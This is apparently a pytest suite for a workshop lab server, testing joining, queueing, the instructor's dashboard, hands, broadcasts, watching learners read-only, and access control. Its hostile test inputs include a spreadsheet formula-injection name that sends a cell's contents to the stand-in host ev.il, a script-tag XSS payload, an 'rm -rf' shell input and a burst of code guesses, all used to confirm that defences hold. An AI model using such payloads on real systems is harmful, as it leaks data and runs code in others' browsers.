"""Workshops against the real server: joining with the access code and a
name, the room's capacity and its queue, the instructor's dashboard pushed
live, hands, the banner, resetting and ending a learner; and who may do
what: every instructor action tried anonymously and as a learner, every
learner page as a learner without a place, a tab left open after its place
ended."""
from __future__ import annotations

import csv
import html
import io
import json
import re
import threading
import time
import xml.etree.ElementTree as ET
import zipfile

import pytest
import requests
import socketio

from playwright.sync_api import expect

from web_support import TEST_LAB, ShellTab, Tab, serving, wait_for
from workshop_support import (CODE, act, api, browser, csrf, end_every_place, join, join_in_browser, me, new_page,
                              lab_hosts, running_lab_hosts, seated, workshop_server)

LONG = 120_000   # ms: a lab host starting while other tests run
expect.set_options(timeout=30_000)

CAPACITY = 2
JOIN_ATTEMPTS = 6


@pytest.fixture(scope="module")
def room():
    yield from serving(workshop_server("workshop", uid_slot=4, capacity=CAPACITY, join_attempts=JOIN_ATTEMPTS))


@pytest.fixture(scope="module")
def instructor(room) -> requests.Session:
    return room.operator()


@pytest.fixture(autouse=True)
def empty_room(room, instructor):
    """Each test starts with nobody in the room: the instructor ends every place left."""
    yield
    end_every_place(room, instructor)


def test_join_takes_the_code_and_a_name(room, instructor):
    http, r = join(room, "x" * 41)
    assert r.status_code == 400 and "at most 40 characters" in r.page
    # its forms are plain POSTs: sent with a real Origin only under this policy; the rest of the hardening stays
    assert r.headers["Referrer-Policy"] == "same-origin" and "frame-ancestors 'none'" in r.headers[
        "Content-Security-Policy"]
    http, r = join(room, "   ")
    assert r.status_code == 400 and "type a name" in r.page
    http, r = join(room, "Ada", code="wrong-code1")
    assert r.status_code == 403 and "not this workshop's access code" in r.page
    assert http.get(f"{room.url}/", timeout=10).status_code == 403   # no session from a wrong code
    http = seated(room, "Ada <b>Lovelace</b>")
    assert "Ada &lt;b&gt;Lovelace&lt;/b&gt;" in http.get(f"{room.url}/labs/{TEST_LAB}", timeout=10).text
    ada = me(room, instructor, "Ada <b>Lovelace</b>")
    assert ada["place"] == "seated" and ada["hand"] is None and ada["current"] is None
    # the join URL again, in the same browser, goes back to the lab (this browser stays Ada)
    assert http.get(f"{room.url}/join?code={CODE}", timeout=10).url.endswith(f"/labs/{TEST_LAB}")


INSTRUCTOR_ONLY = [("GET", "/workshop"), ("GET", "/api/workshop"), ("GET", "/workshop/export.zip"),
                   ("GET", f"/workshop/learners/{{other}}/labs/{TEST_LAB}"),
                   ("GET", "/workshop/learners/{other}/network.json"), ("GET", "/workshop/learners/{other}/network.svg"),
                   ("GET", "/workshop/learners/{other}/ports"), ("GET", "/workshop/learners/{other}/proxy/80/"),
                   ("POST", "/workshop/broadcast"),
                   ("POST", "/workshop/banner/clear"), ("POST", "/workshop/end")] + [
                  ("POST", f"/workshop/learners/{{other}}/{a}")
                  for a in ("reset", "end", "hand-seen", "hand-resolve", "extend", "catch-up")]


def test_instructor_actions_are_the_instructors(room, instructor):
    grace = seated(room, "Grace")
    alan = seated(room, "Alan")
    alan_id = me(room, instructor, "Alan")["id"]
    grace.post(f"{room.url}/workshop/hand", data={"message": "help"}, headers=csrf(room, grace), timeout=10)
    grace_csrf = csrf(room, grace)
    for method, path in INSTRUCTOR_ONLY:
        url = room.url + path.format(other=alan_id)
        anonymous = requests.request(method, url, data={"text": "hi"}, timeout=10)
        assert anonymous.status_code == 403, (path, anonymous.text)
        as_learner = grace.request(method, url, data={"text": "pwned"}, headers=grace_csrf, timeout=10,
                                   allow_redirects=False)
        assert as_learner.status_code == 403 and "for the operator" in as_learner.text, (path, as_learner.text)
    state = api(room, instructor)
    assert state["workshop"]["banner"] is None
    assert me(room, instructor, "Alan")["place"] == "seated" and me(room, instructor, "Alan")["extended_s"] == 0
    assert state["workshop"]["over"] is None
    assert me(room, instructor, "Grace")["hand"]["message"] == "help"
    # the instructor's own actions need the CSRF header too
    assert act(room, instructor, alan_id, "end", headers={}).status_code == 403
    assert act(room, instructor, "no-such-learner", "end").json() == {
        "error": "there is no such learner in this workshop"}
    assert alan.get(f"{room.url}/labs/{TEST_LAB}", timeout=10).status_code == 200


def test_a_learner_without_a_name_has_no_place(room, instructor):
    """The server token (not printed in a workshop) signs a browser in, but it
    must still join with the access code and a name: until then no lab page,
    lab host or WebSocket."""
    http = room.learner()
    r = http.get(f"{room.url}/labs/{TEST_LAB}", timeout=10, allow_redirects=False)
    assert r.status_code == 303 and r.headers["Location"] == "/join"
    with pytest.raises(socketio.exceptions.ConnectionError):
        room.socket(http)
    page = http.get(f"{room.url}/join", timeout=10).text
    assert 'name="code"' in page   # the token is not this workshop's access code: it is asked
    token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    r = http.post(f"{room.url}/join", data={"csrf": token, "name": "Linus"}, timeout=10)
    assert r.status_code == 403 and "access code" in r.text
    r = http.post(f"{room.url}/join", data={"csrf": token, "name": "Linus", "code": CODE}, timeout=10)
    assert r.url.endswith(f"/labs/{TEST_LAB}")
    assert me(room, instructor, "Linus")["place"] == "seated"


def test_the_dashboard_is_pushed_each_step_live(room, instructor):
    http = seated(room, "Barbara")
    room.open_lab(http)
    pushed, lock = [], threading.Lock()
    dashboard = room.socket(instructor)
    dashboard.on("workshop", lambda state: (lock.acquire(), pushed.append(state), lock.release()))
    tab = Tab(room, http)
    try:
        run = tab.run("echo")
        assert tab.wait_end(run)["status"] == "done"

        def shown():
            with lock:
                for state in pushed:
                    for learner in state["learners"]:
                        if learner["name"] == "Barbara" and learner["steps"][TEST_LAB]["echo"]["state"] == "passed":
                            return learner
        learner = wait_for(shown, 30, what="the dashboard to show Barbara's passed step")
        assert learner["current"] == {"lab": TEST_LAB, "step": "echo"} and learner["passed"] == 1
        assert learner["steps"][TEST_LAB]["count"] == {"state": "not_started"}
        assert learner["host"]["state"] == "ready"
        check_export(room, instructor, learner["id"])
        run = tab.run("ping")
        wait_for(lambda: me(room, instructor, "Barbara")["running"], 30, what="a running step on the dashboard")
        assert me(room, instructor, "Barbara")["steps"][TEST_LAB]["ping"]["state"] == "running"
        assert tab.client.call("stop", {"run": run}, timeout=10) == {"ok": True}
        tab.wait_end(run)
    finally:
        tab.close()
        dashboard.disconnect()


def check_export(room, instructor, learner_id: str) -> None:
    """The instructor's archive holds Barbara's notebook, her states as CSV and JSON, and JUnit."""
    r = instructor.get(f"{room.url}/workshop/export.zip", timeout=30)
    assert r.status_code == 200 and "attachment" in r.headers["Content-Disposition"]
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        names = z.namelist()
        rows = list(csv.DictReader(io.StringIO(z.read("results.csv").decode())))
        results = json.loads(z.read("results.json"))["results"]
        suites = ET.fromstring(z.read("junit.xml")).findall("testsuite")
        notebook = next(z.read(n).decode() for n in names if n.endswith(f"Barbara/{TEST_LAB}.md"))
    mine = {row["step"]: row for row in rows if row["learner"] == learner_id}
    assert mine["echo"]["state"] == "passed" and mine["echo"]["status"] == "done" and mine["echo"]["ended"]
    assert mine["count"]["state"] == "not_started" and mine["count"]["started"] == ""
    assert [r for r in results if r["learner"] == learner_id and r["step"] == "echo"][0]["state"] == "passed"
    suite = next(s for s in suites if s.get("name") == f"Barbara: {TEST_LAB}")
    cases = suite.findall("testcase")
    assert len(cases) == len(mine) and sum(1 for c in cases if c.find("skipped") is None) == 1
    assert "## " in notebook and "passed" in notebook


def test_a_raised_hand_is_seen_and_resolved(room, instructor):
    http = seated(room, "Katherine")
    heard = []
    tab = Tab(room, http)
    tab.client.on("place", lambda m: heard.append(m))
    try:
        r = http.post(f"{room.url}/workshop/hand", data={"message": "my ping hangs"}, headers=csrf(room, http),
                      timeout=10)
        assert "the instructor sees it in their queue" in r.text
        katherine = me(room, instructor, "Katherine")
        assert katherine["hand"]["message"] == "my ping hangs" and katherine["hand"]["seen"] is None
        heard.clear()
        assert act(room, instructor, katherine["id"], "hand-seen").json() == {"ok": True}
        wait_for(lambda: heard, 10, what="the learner's tab to hear of it")
        assert "has seen your hand" in http.get(f"{room.url}/workshop/me", timeout=10).text
        act(room, instructor, katherine["id"], "hand-resolve").raise_for_status()
        assert me(room, instructor, "Katherine")["hand"] is None
        assert "Raise hand" in http.get(f"{room.url}/workshop/me", timeout=10).text
    finally:
        tab.close()


def test_a_broadcast_shows_until_each_learner_dismisses_it(room, instructor):
    one, two = seated(room, "Margaret"), seated(room, "Dennis")
    r = instructor.post(f"{room.url}/workshop/broadcast", data={"text": "<script>alert(1)</script> break: 10 min"},
                        headers=csrf(room, instructor), timeout=10)
    assert r.json() == {"ok": True}
    for http in (one, two):
        page = http.get(f"{room.url}/labs/{TEST_LAB}", timeout=10).text
        assert "&lt;script&gt;alert(1)&lt;/script&gt; break: 10 min" in page and "<script>alert(1)" not in page
    banner_id = api(room, instructor)["workshop"]["banner"]["id"]
    one.post(f"{room.url}/workshop/banner/{banner_id}/dismiss", headers=csrf(room, one), timeout=10)
    assert "break: 10 min" not in one.get(f"{room.url}/workshop/me", timeout=10).text
    assert "break: 10 min" in two.get(f"{room.url}/workshop/me", timeout=10).text
    instructor.post(f"{room.url}/workshop/banner/clear", headers=csrf(room, instructor), timeout=10)
    assert "break: 10 min" not in two.get(f"{room.url}/workshop/me", timeout=10).text


def test_a_reset_learner_gets_a_fresh_lab_host(room, instructor):
    http = seated(room, "Ken")
    room.open_lab(http)
    before = me(room, instructor, "Ken")["host"]["host"]
    assert act(room, instructor, me(room, instructor, "Ken")["id"], "reset").json() == {"ok": True}
    room.open_lab(http)
    after = me(room, instructor, "Ken")["host"]
    assert after["state"] == "ready" and after["host"] != before


def test_a_full_room_queues_and_seats_the_next_when_one_leaves(room, instructor):
    first, second = seated(room, "Frances"), seated(room, "Edsger")
    room.open_lab(first)
    frances_host = me(room, instructor, "Frances")["host"]["host"]
    tab = Tab(room, first)     # a tab Frances leaves open
    third, r = join(room, "Niklaus")
    assert r.status_code == 200 and "number 1</strong> in the queue" in r.page
    fourth, r = join(room, "Tony")
    assert "number 2</strong> in the queue" in r.page
    assert third.get(f"{room.url}/labs/{TEST_LAB}", timeout=10, allow_redirects=False).status_code == 303
    with pytest.raises(socketio.exceptions.ConnectionError):
        room.socket(third)
    state = api(room, instructor)
    assert state["workshop"]["seated"] == CAPACITY and state["workshop"]["waiting"] == 2
    assert me(room, instructor, "Niklaus")["position"] == 1 and me(room, instructor, "Niklaus")["host"] is None
    try:
        r = first.post(f"{room.url}/workshop/leave", headers={**csrf(room, first), "HX-Request": "true"}, timeout=10)
        assert r.headers["HX-Redirect"] == "/join"
        wait = third.get(f"{room.url}/join/wait", headers={"HX-Request": "true"}, timeout=10)
        assert wait.headers["HX-Redirect"] == f"/labs/{TEST_LAB}"
        room.open_lab(third)
        assert "number 1</strong> in the queue" in fourth.get(f"{room.url}/join", timeout=10).text
        # Frances's place has ended: her notebook is kept, her lab pages and her open tab start nothing
        page = first.get(f"{room.url}/join", timeout=10).text
        assert "Your place in this workshop has ended" in page
        assert first.get(f"{room.url}/labs/{TEST_LAB}/export.md", timeout=10).status_code == 200
        assert first.get(f"{room.url}/labs/{TEST_LAB}", timeout=10, allow_redirects=False).status_code == 303
        reply = tab.client.call("run", {"lab": TEST_LAB, "step": "echo"}, timeout=10)
        assert "place in this workshop has ended" in reply["error"]
        wait_for(lambda: frances_host not in running_lab_hosts(room, instructor), 30, 0.5,
                 what="Frances's lab host to go")
        # and she cannot take a place again by joining from the same browser
        page = first.get(f"{room.url}/join?code={CODE}", timeout=10).text
        assert "has ended" in page
    finally:
        tab.close()


def test_catch_up_runs_the_steps_before_one_and_stops_at_a_failure(room, instructor):
    http = seated(room, "Hedy")
    room.open_lab(http)
    tab = Tab(room, http)   # the learner's own page sees the runs as they go
    try:
        hedy = me(room, instructor, "Hedy")["id"]

        def catch_up(step: str) -> dict:
            r = instructor.post(f"{room.url}/workshop/learners/{hedy}/catch-up", data={"lab": TEST_LAB, "step": step},
                                headers=csrf(room, instructor), timeout=10)
            assert r.json() == {"ok": True}, r.text
            return wait_for(lambda: (c := me(room, instructor, "Hedy")["catch_up"])["state"] != "running" and c,
                            120, 0.2, what="the catch-up")
        assert catch_up("failing")["state"] == "done"
        steps = me(room, instructor, "Hedy")["steps"][TEST_LAB]
        assert [steps[s]["state"] for s in ("count", "colours", "utf8", "ping")] == ["passed"] * 4  # ping: stopped
        assert steps["failing"]["state"] == "not_started"
        assert {m["step"] for m in tab.started} == {"count", "colours", "utf8", "ping"}
        done = catch_up("echo")
        assert done["state"] == "failed" and "(A failing check) did not pass" in done["error"]
        steps = me(room, instructor, "Hedy")["steps"][TEST_LAB]
        assert steps["failing"]["state"] == "failed" and steps["echo"]["state"] == "not_started"
        r = instructor.post(f"{room.url}/workshop/learners/{hedy}/catch-up", data={"lab": TEST_LAB, "step": "nope"},
                            headers=csrf(room, instructor), timeout=10)
        assert r.status_code == 400 and "no lab" in r.json()["error"]
    finally:
        tab.close()


def test_the_instructor_watches_a_learner_and_nobody_else_may(room, instructor):
    http, other = seated(room, "Joan"), seated(room, "Kay")
    room.open_lab(http)
    joan = me(room, instructor, "Joan")["id"]
    page = instructor.get(f"{room.url}/workshop/learners/{joan}/labs/{TEST_LAB}", timeout=10)
    assert page.status_code == 200 and f'data-watch="{joan}"' in page.text and "Joan" in page.text
    assert "read-only: what runs now shows" in page.text and "host/reset" not in page.text
    assert other.get(f"{room.url}/workshop/learners/{joan}/labs/{TEST_LAB}", timeout=10).status_code == 403
    assert 'data-json="/workshop/learners/' + joan + '/network.json"' in page.text
    joans = http.get(f"{room.url}/network.json", timeout=30).json()
    assert instructor.get(f"{room.url}/workshop/learners/{joan}/network.json", timeout=30).json()[
        "lab_host"] == joans["lab_host"]
    room.open_lab(other)
    assert other.get(f"{room.url}/network.json", timeout=30).json()["lab_host"] != joans["lab_host"]
    assert instructor.get(f"{room.url}/workshop/learners/nobody/network.json", timeout=10).status_code == 404
    ports = instructor.get(f"{room.url}/workshop/learners/{joan}/ports", timeout=30)
    assert ports.status_code == 200 and "Web services" in ports.text
    into = instructor.get(f"{room.url}/workshop/learners/{joan}/proxy/80/", allow_redirects=False, timeout=10)
    assert into.status_code == 302 and f"p80-{joans['lab_host']}.localhost" in into.headers["Location"]
    tab, watcher, spy = Tab(room, http), room.socket(instructor), room.socket(other)
    seen = []
    watcher.on("run_started", lambda m: seen.append(m))
    try:
        assert watcher.call("open", {"lab": TEST_LAB, "learner": joan}, timeout=10) == {"running": []}
        refused = spy.call("open", {"lab": TEST_LAB, "learner": joan}, timeout=10)
        assert "only the instructor" in refused["error"]
        run = tab.run("echo")
        tab.wait_end(run)
        wait_for(lambda: seen, 10, what="the watcher to hear of the run")
        out = []
        watcher.on("output", lambda m: out.append(m["data"]))
        assert watcher.call("attach", {"run": run, "after": -1, "end": 0, "learner": joan}, timeout=10)[
            "status"] == "done"
        wait_for(lambda: b"x" in b"".join(out), 10, what="the run's output")
        for event, payload in (("attach", {"run": run, "after": -1, "end": 0, "learner": joan}),
                               ("attach", {"run": run, "after": -1, "end": 0}),
                               ("stop", {"run": run})):
            assert "error" in spy.call(event, payload, timeout=10), event
        # watching is reading: the instructor's tab cannot stop or run the learner's steps
        assert "error" in watcher.call("stop", {"run": run}, timeout=10)
        assert instructor.get(f"{room.url}/runs/{run}/log", timeout=10).text.endswith("\r\nx\r\n")
        assert other.get(f"{room.url}/runs/{run}/log", timeout=10).status_code == 404
    finally:
        for client in (tab.client, watcher, spy):
            client.disconnect()


def test_the_instructor_watches_a_learners_terminal_read_only(room, instructor):
    http, other = seated(room, "Lin"), seated(room, "Max")
    room.open_lab(http)
    lin = me(room, instructor, "Lin")["id"]
    mine, watcher, spy = ShellTab(room, http), ShellTab(room, instructor, learner=lin), ShellTab(room, other, learner=lin)
    try:
        assert "the learner has no shell open now" in watcher.open()["error"]   # nothing is started for a watcher
        assert mine.open() == {"ok": True}
        mine.type("echo lin-$((6*7))\n")
        mine.wait_text("lin-42")
        assert watcher.open() == {"ok": True}
        watcher.wait_text("lin-42")                                        # what the learner's screen showed
        refused = watcher.client.call("shell_input", {"data": "rm -rf /tmp/x\n"}, timeout=10)
        assert "watching is reading" in refused["error"]
        assert "watching is reading" in watcher.client.call("shell_resize", {"rows": 5, "cols": 5}, timeout=10)["error"]
        mine.type("echo more-$((2*2))\n")
        watcher.wait_text("more-4")                                        # live
        assert "only the instructor" in spy.open()["error"]
    finally:
        for tab in (mine, watcher, spy):
            tab.close()


def test_a_learner_who_leaves_during_a_catch_up_gets_no_lab_host(room, instructor):
    """Found by a hostile review: the catch-up went on starting runs, and so a lab host, for a learner
    who had left (ask for a catch-up with a raised hand, then leave)."""
    headers = csrf(room, instructor)   # a lab page of the instructor's: their own lab host
    settled = (CAPACITY + 1, CAPACITY)  # the instructor's and the warm pool's, all of the pool's ready

    def now() -> tuple[int, int]:       # running lab hosts, of them ready in the pool
        running, ready = lab_hosts(room, instructor)
        return len(running), ready

    wait_for(lambda: now() == settled, 90, 0.2, what="the pool to fill")
    http, _ = join(room, "Eve")        # Eve joins; her lab page is not open yet, she has no lab host
    eve = me(room, instructor, "Eve")["id"]
    r = instructor.post(f"{room.url}/workshop/learners/{eve}/catch-up", data={"lab": TEST_LAB, "step": "echo"},
                        headers=headers, timeout=10)
    assert r.json() == {"ok": True}
    token = re.search(r'"X-CSRF-Token": "([^"]+)"', http.get(f"{room.url}/", timeout=10).text).group(1)
    http.post(f"{room.url}/workshop/leave", headers={"X-CSRF-Token": token}, timeout=10)
    left = me(room, instructor, "Eve")
    assert left["place"] == "ended"
    done = wait_for(lambda: (c := me(room, instructor, "Eve")["catch_up"])["state"] != "running" and c, 120, 0.5,
                    what="the catch-up to end")
    assert done["state"] == "failed", done
    steps = me(room, instructor, "Eve")["steps"][TEST_LAB]
    assert not [s for s, v in steps.items() if (v.get("started") or 0) > left["ended"]]
    # Eve's lab host, claimed before she left, goes and the pool refills; one of hers
    # kept would stay beyond the pool's and the instructor's
    wait_for(lambda: now() == settled, 90, 0.5, what="no lab host beyond the pool's and the instructor's")
    time.sleep(3)
    assert now() == settled


def test_the_results_csv_carries_no_formulas(room, instructor):
    """Found by a hostile review: a learner's name is a cell of results.csv, opened in a spreadsheet."""
    seated(room, '=HYPERLINK("http://ev.il/?"&A2,"x")')
    r = instructor.get(f"{room.url}/workshop/export.zip", timeout=30)
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        rows = list(csv.DictReader(io.StringIO(z.read("results.csv").decode())))
        results = json.loads(z.read("results.json"))["results"]
    assert "'=HYPERLINK" in {row["name"][:11] for row in rows}
    assert not [row["name"] for row in rows if row["name"][:1] in "=+-@"]
    assert '=HYPERLINK("http://ev.il/?"&A2,"x")' in {r["name"] for r in results}   # JSON keeps it as it is


def test_a_resume_link_makes_another_device_the_same_learner_once(room, instructor):
    laptop = seated(room, "Grace H")
    r = laptop.get(f"{room.url}/workshop/resume-link", timeout=10)
    url = re.search(r"<code>(http[^<]+)</code>", r.text).group(1)
    assert "/join/resume/" in url
    phone = requests.Session()
    page = phone.get(url, timeout=10)   # it asks first: any page can send a browser to a link
    assert page.status_code == 200 and "Continue as Grace H" in page.text
    form = re.search(r'<form method="post" action="([^"]+)">\s*<input type="hidden" name="csrf" value="([^"]+)"',
                     page.text)
    done = phone.post(room.url + html.unescape(form.group(1)), data={"csrf": form.group(2)},
                      headers={"Origin": room.url}, timeout=10)
    assert done.url.endswith(f"/labs/{TEST_LAB}")
    assert [l["name"] for l in api(room, instructor)["learners"] if l["place"] == "seated"] == ["Grace H"]
    assert "Grace H" in phone.get(f"{room.url}/workshop/me", timeout=10).text
    # the instructor's browser sent there by a learner's page is asked, and stays the instructor's
    warned = instructor.get(url[:-1] + url[-1], timeout=10)
    assert "This browser is the instructor's" in warned.text or "used already" in html.unescape(warned.text)
    assert instructor.get(f"{room.url}/api/workshop", timeout=10).status_code == 200
    # once only, for this workshop only, and not forged
    again = requests.Session().get(url, timeout=10)
    assert again.status_code == 403 and "used already" in html.unescape(again.text)
    forged = requests.Session().get(url[:-3] + ("aaa" if not url.endswith("aaa") else "bbb"), timeout=10)
    assert forged.status_code == 403 and "not valid" in forged.text
    assert requests.get(f"{room.url}/workshop/resume-link", timeout=10).status_code == 403   # anonymous


@pytest.mark.slow
def test_a_room_in_browsers(room, browser):
    """An instructor and three learners, each in a browser of their own."""
    errors = []
    teacher = new_page(browser, errors)
    teacher.goto(f"{room.url}/workshop?token={room.operator_token}")
    expect(teacher.locator("#counts")).to_contain_text("0 of 2 places taken")
    ana, ben, cy = (new_page(browser, errors) for _ in range(3))
    for page, name in ((ana, "Ana"), (ben, "Ben")):
        join_in_browser(page, room, name)
        expect(page.locator("#host")).to_have_attribute("data-state", "ready", timeout=LONG)
    seats = teacher.locator("#grid tbody tr[data-place=seated]")
    expect(seats).to_have_count(2)
    row = seats.filter(has_text="Ana")

    # a hand, seen; what Ana types survives the room bar's refresh (every 10 s, and at each room event)
    ana.fill("#room input[name=message]", "stuck on <the> ping")
    ana.evaluate("document.getElementById('room').dataset.before = 'refresh'")
    ana.evaluate("htmx.trigger(document.body, 'labnb-room')")
    expect(ana.locator("#room[data-before]")).to_have_count(0)   # the bar is the server's new one
    expect(ana.locator("#room input[name=message]")).to_have_value("stuck on <the> ping")
    expect(ana.locator("#room input[name=message]")).to_be_focused()
    ana.click("#room form.raise button")
    hand = teacher.locator("#hands li", has_text="Ana")
    expect(hand).to_contain_text("stuck on <the> ping")
    expect(row.locator("td.name")).to_contain_text("✋")
    hand.locator("button.seen").click()
    expect(ana.locator("#room .hand")).to_contain_text("has seen your hand")

    # a broadcast, dismissed by one
    teacher.fill("#broadcast [name=text]", "Break until 11:00")
    teacher.click("#broadcast button[type=submit]")
    for page in (ana, ben):
        expect(page.locator("#room .broadcast")).to_contain_text("Break until 11:00")
    ben.click("#room .broadcast button.dismiss")
    expect(ben.locator("#room .broadcast")).to_have_count(0)
    expect(ana.locator("#room .broadcast")).to_have_count(1)

    # a step run by a learner shows in the grid, and live in the instructor's read-only view of her notebook
    watch = new_page(browser, errors, context=teacher.context)
    watch.goto(room.url + row.locator("td.name a").get_attribute("href"))
    expect(watch.locator("h1 .watching")).to_have_text("Ana")
    expect(watch.locator(".cell[data-step='echo'] button.run")).to_be_hidden()
    ana.locator(".cell[data-step='echo'] button.run").click()
    expect(row.locator("td[data-step='echo']")).to_have_attribute("data-state", "passed")
    expect(row.locator("td.current")).to_contain_text("Echo")
    expect(watch.locator(".cell[data-step='echo']")).to_have_attribute("data-status", "done")
    expect(watch.locator(".cell[data-step='echo'] .output")).to_contain_text("x")
    watch.close()

    # a reset by the instructor: the learner's page shows the fresh lab host
    before = ben.locator("#host code").inner_text()
    seats.filter(has_text="Ben").locator("button.reset").click()
    expect(ben.locator("#host code")).not_to_have_text(before, timeout=LONG)
    expect(ben.locator("#host")).to_have_attribute("data-state", "ready", timeout=LONG)

    # the room is full: Cy waits, and gets in when Ana leaves
    join_in_browser(cy, room, "Cy")
    expect(cy.locator(".queue")).to_contain_text("number 1")
    expect(teacher.locator("#queue li")).to_have_text(["Cy"])
    ana.click("#room button.leave")
    expect(ana.locator(".ended")).to_contain_text("you left the workshop")
    expect(cy.locator("#host")).to_have_attribute("data-state", "ready", timeout=LONG)
    expect(teacher.locator("#counts")).to_contain_text("2 of 2 places taken, 0 waiting")
    assert not errors, errors


def test_wrong_codes_are_limited_per_address(room):
    """Last in this module: it locks 127.0.0.1 out of joining for the window."""
    statuses = []   # a burst of guesses at once: each is checked and counted in one step, none slips past

    def guess(n: int) -> None:
        statuses.append(join(room, "Mallory", code=f"guess-{n:05d}")[1].status_code)

    threads = [threading.Thread(target=guess, args=(n,)) for n in range(3 * JOIN_ATTEMPTS)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert statuses.count(403) <= JOIN_ATTEMPTS and statuses.count(429) >= 2 * JOIN_ATTEMPTS, statuses
    _, r = join(room, "Mallory", code=CODE)
    assert r.status_code == 429 and "wrong access codes" in r.page
    assert "refused a join from 127.0.0.1" in room.log.read_text()
